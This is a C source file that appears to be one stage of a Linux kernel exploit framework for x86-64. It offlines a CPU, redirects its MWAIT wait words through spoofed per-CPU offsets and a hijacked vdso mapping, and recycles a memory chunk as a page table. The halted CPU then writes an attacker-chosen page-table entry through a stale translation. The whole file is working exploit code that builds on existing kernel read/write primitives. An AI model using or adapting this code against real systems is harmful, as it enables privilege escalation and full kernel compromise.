// SPDX-License-Identifier: GPL-2.0-only
/*
 * A CPU that is gone is waited for by nobody, as it has nothing to do but halt. Where it
 * has MWAIT it goes on to look at two words, and writes the second one when the first one
 * says so. Where they are follows from this_cpu_off, which is ordinary memory. So the
 * second one lies in a page that becomes a page table: the CPU still has the translation
 * of before.
 */
#include <stdio.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "chunk.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define PAGES_PART	0x54
#define TABLES_PART	0x56
#define NR_PAGES	16384
#define STILL_HELD	32
#define TABLES		6000
#define PAGES_AT	8		/* of struct vm_special_mapping */
#define PAGES		64
#define VENDOR		2		/* of boot_cpu_data */
#define SYNC_STATE	0x38		/* of cpuhp_state */
#define IDLE_DEAD	0x57		/* CPUHP_AP_IDLE_DEAD */
#define WAITS		0xdeadbeefdeadbeefUL
#define RQ_SIZE		4096		/* of struct rq, at most */
#define HALT		0x4a17deadU
#define PATIENCE	3000		/* ms */
#define WORD		4		/* each of the two that the CPU looks at */
#define SPINS		4000000000UL
#define CPU		1

static uint64_t phys[NR_PAGES];

static bool is_run(int first, int nr)
{
	int i;

	for (i = 1; i < nr; i++)
		if (phys[first + i] != phys[first] + i * PAGE_SIZE)
			return false;
	return true;
}

/* One chunk, another one behind it, and before them room for what a CPU has of its own. */
static int find_run(volatile char *at, int before)
{
	struct slot slot;
	int i;

	for (i = 0; i < NR_PAGES; i++) {
		at[i * PAGE_SIZE] = 1;
		phys[i] = kwalk((uint64_t)at + i * PAGE_SIZE, LEAF, 0, &slot) ? 0 : slot.phys;
	}
	for (i = before; i < NR_PAGES - STILL_HELD - 2 * CHUNK_PAGES; i++)
		if (phys[i] && !(phys[i] % CHUNK_SIZE) &&
		    is_run(i - before, before + 2 * CHUNK_PAGES) &&
		    phys[i] / PMD_SIZE == (phys[i] + CHUNK_SIZE) / PMD_SIZE)
			return i;
	return -1;
}

/* Two ordinary pages of the kernel's, where the vdso was. */
static volatile char *map_pages(uint64_t first, uint64_t second)
{
	volatile char *vdso = (void *)getauxval(AT_SYSINFO_EHDR);
	uint64_t vma = find_vma(vdso), slot;
	struct kernel_page room;

	slot = vma ? find_pointer_into(vma, VMA_SIZE, ksymbol("vdso_mapping"), PAGES) : 0;
	if (!slot || !kernel_page(&room))
		return NULL;
	kwrite64(room.addr + PAGES_AT, room.addr + PAGES);
	kwrite64(room.addr + PAGES, first);
	kwrite64(room.addr + PAGES + 8, second);
	kwrite64(slot, room.addr);
	kwrite64(vma + VMA_PROT, writable_protection());
	madvise((void *)vdso, 2 * PAGE_SIZE, MADV_DONTNEED);
	(void)vdso[0];
	(void)vdso[PAGE_SIZE];
	return vdso;
}

/* From the words that a CPU waits at to what it has of its own. */
static uint64_t words_offset(void)
{
	return ksymbol_cpu("mwait_cpu_dead", CPU) - kread64(ksymbol_cpu("this_cpu_off", CPU));
}

/* Whose idle task it is, as idle_task_exit() asks by the offset that we choose. */
static void copy_idle(volatile char *moved)
{
	uint64_t off = kread64(ksymbol_cpu("this_cpu_off", CPU)), rq = ksymbol_cpu("runqueues", CPU);
	uint64_t idle = kread64(ksymbol_cpu("idle_threads", CPU)), at;

	for (at = rq; (at = find_word(at, rq + RQ_SIZE - at, idle)); at += sizeof(at))
		memcpy((char *)moved + (at - off), &idle, sizeof(idle));
}

static void go_away(void)
{
	if (fork())
		return;
	hotplug_cpu(false);
	_exit(0);
}

static bool waits_at(volatile char *control)
{
	uint64_t words;
	int i;

	for (i = 0; i < PATIENCE; i++, usleep(1000)) {
		memcpy(&words, (char *)control, sizeof(words));
		if (words == WAITS)
			return true;
	}
	return false;
}

/* CPU 1 goes, and waits where we say, or not. */
static enum outcome send_away(volatile char *control, uint64_t control_phys)
{
	uint64_t this_off = ksymbol_cpu("this_cpu_off", CPU), off = kread64(this_off), i;
	uint64_t state = ksymbol_cpu("cpuhp_state", CPU), vendor = ksymbol("boot_cpu_data") + VENDOR;
	volatile char *pages = map_pages(page_of(this_off), page_of(state));
	volatile uint64_t *mine = (void *)(pages + this_off % PAGE_SIZE);
	volatile uint32_t *theirs = (void *)(pages + PAGE_SIZE + state % PAGE_SIZE);
	uint32_t dead = 0;
	uint8_t old, intel = 0;
	bool waits, goes;

	if (!pages || *mine != off)
		return broken("no mapping of what the CPU has of its own");
	copy_idle(control - words_offset());
	kread(vendor, &old, sizeof(old));
	kwrite(vendor, &intel, sizeof(intel));
	go_away();
	for (i = 0; i < SPINS && *theirs != IDLE_DEAD; i++)
		;
	goes = *theirs == IDLE_DEAD;
	*mine = direct_map_base() + control_phys - words_offset();
	waits = waits_at(control);
	kwrite(vendor, &old, sizeof(old));
	kwrite64(this_off, off);
	kwrite(state + SYNC_STATE, &dead, sizeof(dead));
	wait(NULL);
	if (!goes)
		return broken("the CPU was not seen to go");
	return waits ? WON : lost("the CPU that went does not wait there");
}

/* Two chunks in a row, and the first of the words right in front of them. */
struct chunks {
	volatile char *control;
	uint64_t control_phys;
	uint64_t page;
};

static bool find_chunks(struct chunks *chunks)
{
	volatile char *at = map_small_pages(PAGES_PART, NR_PAGES * PAGE_SIZE);
	struct slot slot;
	int i = at ? find_run(at, words_offset() / PAGE_SIZE + 2) : -1;

	if (i < 0 || kwalk((uint64_t)at + i * PAGE_SIZE, LEAF, 0, &slot))
		return false;
	at += i * PAGE_SIZE;
	hold_pages(slot.page, 2 * CHUNK_PAGES);
	memset((char *)at, 0, 2 * CHUNK_SIZE);
	*chunks = (struct chunks){ at - WORD, slot.phys - WORD, slot.page };
	return true;
}

static bool give(const struct chunks *chunks, int chunk)
{
	munmap((char *)chunks->control + WORD + chunk * CHUNK_SIZE, CHUNK_SIZE);
	return !put_on_free_list(chunks->page + chunk * CHUNK_PAGES * STRUCT_PAGE, CHUNK_ORDER);
}

/* The second chunk comes first, so that the pool takes the first one when we can tell. */
static int become_table(const struct chunks *chunks, volatile char *base)
{
	uint64_t first = chunks->control_phys + WORD;
	int next = 0;

	use_up_blocks();
	if (!give(chunks, 1))
		return -1;
	spend_tables(base, TABLES, &next, first + CHUNK_SIZE);
	return give(chunks, 0) ? find_table(base, TABLES, next, first) : -1;
}

/* The word is written that has the CPU write the next one. */
static enum outcome have_it_store(const struct chunks *chunks, uint64_t entry)
{
	uint64_t was = kread64(entry), now = was;
	int i;

	*(volatile uint32_t *)chunks->control = HALT;
	for (i = 0; i < PATIENCE && now == was; i++, usleep(1000))
		now = kread64(entry);
	if (now == was)
		return lost("the entry stays %#lx", was);
	return won("page-table entry at %#lx, frame %#x, was %#lx and is %#lx", entry,
		   frame_of(entry - direct_map_base()), was, now);
}

enum outcome gone_store(void)
{
	volatile char *base = sparse_region(user_room(TABLES_PART), TABLES, PROT_READ);
	enum outcome outcome;
	struct chunks chunks;
	struct slot slot;
	int mine;

	stay_on_cpu(0);
	if (!base || !find_chunks(&chunks))
		return broken("no two chunks in a row");
	stay_on_cpu(3);
	outcome = send_away(chunks.control, chunks.control_phys);
	if (outcome != WON)
		return outcome;
	stay_on_cpu(0);
	mine = become_table(&chunks, base);
	if (mine < 0 || kwalk((uint64_t)base + mine * PMD_SIZE, LEVEL_PTE, 0, &slot))
		return lost("the page did not become a table of ours");
	return have_it_store(&chunks, slot.slot);
}
#else
enum outcome gone_store(void)
{
	return skipped("x86-64 only");
}
#endif
